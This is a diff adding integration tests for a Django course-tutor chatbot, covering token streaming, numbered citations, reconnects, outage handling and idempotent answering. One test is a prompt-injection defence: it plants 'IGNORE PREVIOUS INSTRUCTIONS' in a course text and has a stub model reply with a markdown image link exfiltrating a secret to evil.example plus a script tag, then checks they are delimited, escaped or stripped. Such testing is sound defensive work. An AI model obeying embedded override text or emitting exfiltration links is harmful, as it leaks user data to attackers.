@@ -1,0 +1,213 @@
+"""The chat through the real stack: web server (uvicorn, ASGI), Celery worker, Redis pub/sub, PostgreSQL.
+
+Only the language model is a stand-in: the loopback stub server of tests/stub_llm.py.
+"""
+
+import json
+import socket
+
+import httpx
+import pytest
+
+from tests.tutor_support import INIT_TEXT, INJECTION_TEXT, make_course, make_member, point_tutor_at
+from tutor.models import Citation, Message
+
+pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.worker]
+
+
+def sse_events(url, timeout=60, stop_after=None):
+    """(event, data) pairs of a server-sent event stream until 'final' (or stop_after events)."""
+    events = []
+    with httpx.stream("GET", url, timeout=timeout) as response:
+        assert response.status_code == 200, response.read()
+        assert response.headers["content-type"].startswith("text/event-stream")
+        name = None
+        for line in response.iter_lines():
+            if line.startswith("event:"):
+                name = line[6:].strip()
+            elif line.startswith("data:"):
+                events.append((name, json.loads(line[5:])))
+                if name == "final" or (stop_after and len(events) >= stop_after):
+                    break
+    return events
+
+
+def ask(web_server, course, token, text):
+    """POST a question like the chat page does; returns the JSON reply."""
+    response = httpx.post(f"{web_server}/c/{course.pk}/ask/", data={"text": text, "lt": token},
+                          headers={"X-Launch-Token": token}, timeout=30)
+    assert response.status_code == 200, response.text
+    return response.json()
+
+
+def closed_port_url():
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return f"http://127.0.0.1:{sock.getsockname()[1]}/v1"
+
+
+@pytest.fixture
+def course(db):
+    return make_course(("systemstart.md", INIT_TEXT))
+
+
+def test_answer_streams_token_by_token_with_numbered_citations(celery_worker, web_server, stub_llm, course):
+    """A student's question is answered from the course text: streamed pieces, then sanitized HTML with sources."""
+    user, token = make_member(course)
+    point_tutor_at(course, stub_llm.url)
+    stub_llm.reply = "Der Init-Prozess hat die **PID 1** [1]."
+    stub_llm.token_delay = 0.05
+
+    reply = ask(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
+    events = sse_events(web_server + reply["stream_url"])
+
+    names = [name for name, _ in events]
+    assert names[0] in ("snapshot", "delta") and names[-1] == "final"
+    streamed = "".join(data["text"] for name, data in events if name in ("snapshot", "delta"))
+    assert streamed == "Der Init-Prozess hat die **PID 1** [1]."
+    assert names.count("delta") >= 3
+    final = events[-1][1]
+    assert final["status"] == "done"
+    assert "<strong>PID 1</strong>" in final["html"]
+    citation = Citation.objects.get(message_id=reply["answer_id"], number=1)
+    assert citation.cited and citation.document_title == "systemstart"
+    passage_url = f"/courses/{course.pk}/passage/{citation.chunk_id}/?lt="
+    assert f'class="cite" href="{passage_url}' in final["html"]
+    assert final["citations"][0]["url"].startswith(passage_url)
+    assert httpx.get(web_server + final["citations"][0]["url"], timeout=10).status_code == 200
+
+    question, answer = Message.objects.filter(conversation__user=user).order_by("created_at", "id")
+    assert question.text == "Welche Prozessnummer hat der Init-Prozess?" and answer.status == Message.DONE
+    sent = stub_llm.requests[0]["body"]
+    assert sent["stream"] is True and sent["messages"][0]["role"] == "system"
+    assert "Der Init-Prozess ist der erste Prozess" in sent["messages"][-1]["content"]
+
+
+def test_a_reconnecting_browser_gets_what_was_streamed_so_far(celery_worker, web_server, stub_llm, course):
+    """Closing the stream mid-answer and opening it again replays the saved text, then continues."""
+    _, token = make_member(course)
+    point_tutor_at(course, stub_llm.url)
+    stub_llm.reply = "Eins zwei drei vier fünf sechs sieben acht [1]."
+    stub_llm.token_delay = 0.15
+
+    reply = ask(web_server, course, token, "Was startet der Kernel beim Systemstart zuerst?")
+    first = sse_events(web_server + reply["stream_url"], stop_after=4)
+    assert [name for name, _ in first][-1] == "delta"
+    again = sse_events(web_server + reply["stream_url"])
+    assert again[0][0] == "snapshot" and again[0][1]["text"].startswith("Eins zwei")
+    resumed = "".join(data["text"] for name, data in again if name in ("snapshot", "delta"))
+    assert resumed == "Eins zwei drei vier fünf sechs sieben acht [1]."
+    after = sse_events(web_server + reply["stream_url"])
+    assert [name for name, _ in after] == ["final"]
+
+
+def test_nothing_relevant_means_a_clear_no_and_the_texts_searched(celery_worker, web_server, stub_llm, course):
+    """A question the course texts do not cover is declined without asking the model, naming the texts searched."""
+    _, token = make_member(course)
+    point_tutor_at(course, stub_llm.url)
+    reply = ask(web_server, course, token, "Wie hoch ist der Eiffelturm in Paris?")
+    final = sse_events(web_server + reply["stream_url"])[-1][1]
+    assert final["status"] == "done" and final["declined"] is True
+    assert "systemstart" in final["html"]
+    assert final["citations"] == []
+    assert stub_llm.requests == []
+
+
+def test_inference_down_or_slow_fails_clearly_keeps_the_question_and_recovers(celery_worker, web_server, stub_llm,
+                                                                               course):
+    """Server down: a clear message, the question kept; too slow: the same; back again: the next question works."""
+    user, token = make_member(course)
+    point_tutor_at(course, closed_port_url())
+    reply = ask(web_server, course, token, "Welche Prozessnummer hat der Init-Prozess?")
+    final = sse_events(web_server + reply["stream_url"])[-1][1]
+    assert final["status"] == "failed"
+    assert "not reachable right now" in final["error"] and "question is saved" in final["error"]
+    assert Message.objects.filter(conversation__user=user, role=Message.USER).count() == 1
+
+    point_tutor_at(course, stub_llm.url, timeout_seconds=1)
+    stub_llm.first_token_delay = 3
+    reply = ask(web_server, course, token, "Wie installiert man Pakete mit apt?")
+    assert sse_events(web_server + reply["stream_url"])[-1][1]["status"] == "failed"
+
+    stub_llm.first_token_delay = 0
+    stub_llm.reply = "Mit apt install [1]."
+    reply = ask(web_server, course, token, "Und wo stehen die Paketquellen?")
+    final = sse_events(web_server + reply["stream_url"])[-1][1]
+    assert final["status"] == "done" and "apt install" in final["html"]
+    answer = Message.objects.get(pk=reply["answer_id"])
+    assert answer.search_query.startswith("Wie installiert man Pakete mit apt?")
+    assert Message.objects.filter(conversation__user=user, role=Message.USER).count() == 3
+
+
+def test_injected_instructions_in_a_course_text_stay_data(celery_worker, web_server, stub_llm):
+    """A course text that says 'ignore previous instructions' is sent inside the delimiters, defused, as data."""
+    course = make_course(("netzwerk.md", INJECTION_TEXT), title="Netze")
+    _, token = make_member(course)
+    point_tutor_at(course, stub_llm.url)
+    stub_llm.reply = "Siehe ![x](https://evil.example/steal?q=secret) und <script>alert(1)</script> [1]."
+    reply = ask(web_server, course, token, "Wo werden Netzwerkschnittstellen konfiguriert?")
+    final = sse_events(web_server + reply["stream_url"])[-1][1]
+
+    system, user = stub_llm.requests[0]["body"]["messages"][0], stub_llm.requests[0]["body"]["messages"][-1]
+    assert "never instructions" in system["content"] or "niemals Anweisungen" in system["content"]
+    assert "IGNORE PREVIOUS" not in system["content"]
+    content = user["content"]
+    assert content.count("<course_texts>") == 1 and content.count("</course_texts>") == 1
+    assert content.count("<question>") == 1 and content.count("</question>") == 1
+    assert content.index("</course_texts>") < content.index("<question>")
+    assert content.index("<course_texts>") < content.index("IGNORE PREVIOUS INSTRUCTIONS") < content.index(
+        "</course_texts>")
+    assert "‹/source></course_texts>" not in content and "‹/source>‹/course_texts>" in content
+    assert content.rstrip().endswith("<question>\nWo werden Netzwerkschnittstellen konfiguriert?\n</question>")
+
+    assert "<img" not in final["html"] and "evil.example" not in final["html"]
+    assert "<script>" not in final["html"] and "&lt;script&gt;" in final["html"]
+
+
+def _pending_answer(course, user, text):
+    from tutor.models import Conversation
+
+    conversation = Conversation.objects.create(course=course, user=user)
+    Message.objects.create(conversation=conversation, role=Message.USER, text=text)
+    return Message.objects.create(conversation=conversation, role=Message.ASSISTANT, status=Message.PENDING)
+
+
+def test_answering_is_idempotent_and_a_half_streamed_answer_starts_over(stub_llm, course):
+    """chat_answer may run twice (acks_late redelivery): a finished answer stays, a broken-off one is redone."""
+    from tutor import chat
+
+    user, _ = make_member(course)
+    point_tutor_at(course, stub_llm.url)
+    answer = _pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?")
+    chat.answer(answer.pk)
+    stub_llm.reply = "Eine andere Antwort [1]."
+    chat.answer(answer.pk)
+    answer.refresh_from_db()
+    assert answer.text == "Das steht im Kurstext [1]." and len(stub_llm.requests) == 1
+
+    Message.objects.filter(pk=answer.pk).update(status=Message.STREAMING, text="")
+    chat.answer(answer.pk)
+    answer.refresh_from_db()
+    assert answer.status == Message.DONE and answer.text == "Eine andere Antwort [1]."
+    numbers = sorted(answer.citations.values_list("number", flat=True))
+    assert numbers and numbers == list(range(1, len(numbers) + 1))  # replaced, not added twice
+
+
+def test_a_crash_while_answering_still_ends_the_answer_with_a_reason(stub_llm, course, monkeypatch):
+    """An unexpected error marks the answer failed (so no browser waits forever) and keeps the question."""
+    from tutor import chat
+
+    user, _ = make_member(course)
+    point_tutor_at(course, stub_llm.url)
+    answer = _pending_answer(course, user, "Welche Prozessnummer hat der Init-Prozess?")
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("database went away")
+
+    monkeypatch.setattr(chat, "_history", broken)
+    with pytest.raises(RuntimeError):
+        chat.answer(answer.pk)
+    answer.refresh_from_db()
+    assert answer.status == Message.FAILED and answer.error == "internal"
+    assert "question is saved" in chat.error_text(answer.error)
+
